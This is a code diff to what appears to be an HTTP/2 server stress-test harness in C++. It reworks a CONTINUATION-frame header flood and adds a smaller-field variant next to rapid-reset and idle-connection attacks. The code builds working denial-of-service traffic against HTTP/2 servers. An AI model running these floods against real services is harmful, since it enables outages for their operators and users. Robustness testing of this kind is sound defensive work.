@@ -182,11 +182,11 @@ std::string OpenStreams(uint32_t turn) {
   return bytes;
 }
 
-// 1 MB of header fields each time that never end.
-std::string Continuations(uint32_t turn) {
+// Half a MB of header fields each time that never end.
+std::string Continuations(uint32_t turn, const std::string& field) {
   std::string fields, bytes = turn == 0 ? Headers(1, false) : "";
-  while (fields.size() < 16000) fields += http2::Header("x-more", std::string(100, 'x'));
-  for (int i = 0; i < 64; ++i) bytes += http2::Frame(http2::kMore, 0, 1, fields);
+  while (fields.size() + field.size() < 16000) fields += field;
+  for (int i = 0; i < 32; ++i) bytes += http2::Frame(http2::kMore, 0, 1, fields);
   return bytes;
 }
 
@@ -246,7 +246,17 @@ const std::map<std::string, Make>& Attacks() {
       {"rapid-reset",
        [](int port) { return std::make_unique<RawAttack>(port, 10, true, RapidReset); }},
       {"continuation",
-       [](int port) { return std::make_unique<RawAttack>(port, 10, true, Continuations); }},
+       [](int port) {
+         return std::make_unique<RawAttack>(port, 10, true, [](uint32_t turn) {
+           return Continuations(turn, http2::Header("x-more", std::string(100, 'x')));
+         });
+       }},
+      {"continuation-tiny",
+       [](int port) {
+         return std::make_unique<RawAttack>(port, 10, true, [](uint32_t turn) {
+           return Continuations(turn, http2::Header("x", "y"));
+         });
+       }},
       {"idle-connections",
        [](int port) { return std::make_unique<RawAttack>(port, 2000, true, nullptr); }},
       {"connections-400",
